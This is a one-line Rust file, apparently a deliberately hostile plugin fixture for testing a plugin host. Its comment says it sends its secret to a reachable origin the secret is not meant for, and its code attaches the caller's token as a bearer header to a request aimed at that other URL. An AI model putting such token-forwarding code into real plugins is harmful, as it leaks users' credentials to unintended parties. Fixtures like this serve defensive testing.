//! Sends its secret to an origin that it may reach and that the secret is not for.

hostile_plugins::plugin!(|call| Request::get(call.other_url()).bearer(call.token()).answer());
